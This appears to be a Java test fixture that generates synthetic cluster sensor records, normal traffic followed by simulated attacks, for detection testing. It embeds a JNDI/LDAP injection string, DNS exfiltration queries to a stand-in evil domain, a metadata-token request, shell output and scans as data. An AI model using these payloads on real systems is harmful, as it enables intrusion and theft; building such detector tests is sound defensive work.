/*
 * Copyright 2026 the Podtap authors
 * SPDX-License-Identifier: Apache-2.0
 */
package io.podtap.sensor.detect;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Random;

/**
 * Records as sensors send them, of a cluster of 30 workloads: what they do usually, for an hour,
 * and then one attack of each kind that detections behind a broker find. Seeded.
 */
final class DetectTraffic {

  /** What the detections that learn are told. */
  static final String LEARNING = "cluster.learning=1800";

  private static final long START_NS = 1_700_000_000_000_000_000L;
  private static final long SECOND_NS = 1_000_000_000L;
  private static final int WORKLOADS = 30;

  /** One message of a topic. */
  @SuppressWarnings("ArrayRecordComponent") // which nobody compares
  record Message(String log, byte[] json, long timeNs) {}

  private final List<Message> messages = new ArrayList<>();
  private final Random random;
  private long nowNs = START_NS;

  private DetectTraffic(long seed) {
    random = new Random(seed);
  }

  /** Returns the messages in the order in which they were sent. */
  static List<Message> of(long seed) {
    DetectTraffic traffic = new DetectTraffic(seed);
    traffic.usual();
    traffic.attacks();
    return traffic.messages;
  }

  private void usual() {
    for (int minute = 0; minute < 60; minute++) {
      for (int from = 0; from < WORKLOADS; from++) {
        int to = (from + 1 + random.nextInt(3)) % WORKLOADS;
        connection(pod(from), pod(to), 8080, "SF", "service", "http");
        pass(0.1);
      }
      connection(pod(3), outside(9), 443, "SF", "orig_bytes", "2000");
      pass(57);
    }
  }

  private void attacks() {
    for (int i = 0; i < 40; i++) {
      connection(pod(1), address("10.9.0." + i), 22, "S0", "history", "S");
      connection(pod(2), pod(4), 1_000 + i, "REJ", "history", "Sr");
      record("ssh", pod(5), pod(6), 22, "auth_attempts", "1", "auth_success", "F");
      record("redis", pod(7), pod(8), 6379, "cmd.name", "AUTH", "success", "F");
      pass(1);
    }
    connection(pod(9), pod(20), 9_999, "SF");
    connection(pod(10), outside(77), 443, "SF");
    connection(pod(11), pod(12), 8080, "SF", "service", "ssh");
    record("http", pod(13), address("169.254.169.254"), 80, "uri", "/x/token", "method", "GET");
    connection(pod(14), address("10.0.3.3"), 10_250, "SF");
    connection(pod(14), address("10.0.3.3"), 2_379, "SF");
    connection(pod(14), address("10.0.3.3"), 6_443, "SF");
    content(pod(15), outside(5), "mining", "F", "login");
    content(outside(5), pod(16), "jndi", "T", "jndi:ldap://93.184.216.66:1389/a");
    pass(2);
    connection(pod(17), outside(66), 1389, "SF"); // not the one that was asked
    content(pod(18), outside(5), "shell", "T", "sh-5.1$");
    content(pod(19), pod(20), "shell", "F", "sh-5.1$");
    content(pod(19), pod(21), "command_output", "F", "uid=0(root)");
    content(pod(22), pod(23), "token", "T", "shop/web");
    content(pod(22), pod(23), "secret", "F", "Secret shop/key");
    record("http", pod(24), pod(25), 80, "username", "admin", "method", "GET");
    for (int i = 0; i < 150; i++) {
      String data = String.format(Locale.ROOT, "%040x", 7_919L * i);
      record("dns", pod(26), address("10.0.9.9"), 53, "query", data + ".t.evil.example");
      pass(0.5);
    }
    for (int i = 0; i < 40; i++) {
      connection(pod(27), outside(30), 443, "SF", "orig_bytes", "120", "service", "ssl");
      pass(60);
    }
    connection(pod(28), outside(31), 443, "SF", "orig_bytes", "90000000");
    // What was attacked attacks: scanned (4), asked for a lookup (16), guessed at (8).
    for (int i = 0; i < 30; i++) {
      connection(pod(4), address("10.9.1." + i), 6379, "S0", "history", "S");
      connection(pod(16), address("10.9.2." + i), 6379, "S0", "history", "S");
      pass(1);
    }
  }

  private void pass(double seconds) {
    nowNs += (long) (seconds * SECOND_NS);
  }

  /** An end: its address, and the columns that name it, with {@code END} for which it is. */
  private record End(String address, String columns) {}

  private static End pod(int number) {
    return new End(
        "10.0.1." + (1 + number),
        "\"k8s.END.namespace\":\"shop\",\"k8s.END.workload\":\"Deployment/w" + number + "\",");
  }

  private static End address(String address) {
    return new End(address, "");
  }

  private static End outside(int number) {
    return new End("93.184.216." + number, "\"k8s.END.workload\":\"world\",");
  }

  private void connection(End from, End to, int port, String state, String... fields) {
    List<String> all = new ArrayList<>(List.of(fields));
    boolean isEstablished = state.equals("SF");
    all.addAll(
        List.of("proto", "tcp", "conn_state", state, "resp_pkts", isEstablished ? "3" : "0"));
    record("conn", from, to, port, all.toArray(String[]::new));
  }

  private void content(End from, End to, String kind, String fromOriginator, String text) {
    record("content", from, to, 80, "kind", kind, "is_orig", fromOriginator, "text", text);
  }

  private void record(String log, End from, End to, int port, String... fields) {
    StringBuilder json = new StringBuilder("{");
    String format = "\"ts\":%d.%06d,\"uid\":\"C%d\",\"id.orig_h\":\"%s\",\"id.orig_p\":%d,";
    json.append(
        String.format(
            Locale.ROOT,
            format + "\"id.resp_h\":\"%s\",\"id.resp_p\":%d,",
            nowNs / SECOND_NS,
            nowNs % SECOND_NS / 1_000,
            messages.size(),
            from.address(),
            40_000 + messages.size() % 20_000,
            to.address(),
            port));
    json.append(from.columns().replace("END", "orig")).append(to.columns().replace("END", "resp"));
    for (int i = 0; i < fields.length; i += 2) {
      json.append('"').append(fields[i]).append("\":").append(value(fields[i + 1])).append(',');
    }
    json.setCharAt(json.length() - 1, '}');
    messages.add(new Message(log, json.toString().getBytes(StandardCharsets.UTF_8), nowNs));
  }

  private static String value(String text) {
    return switch (text) {
      case "T" -> "true";
      case "F" -> "false";
      default -> text.chars().allMatch(Character::isDigit) ? text : '"' + text + '"';
    };
  }
}
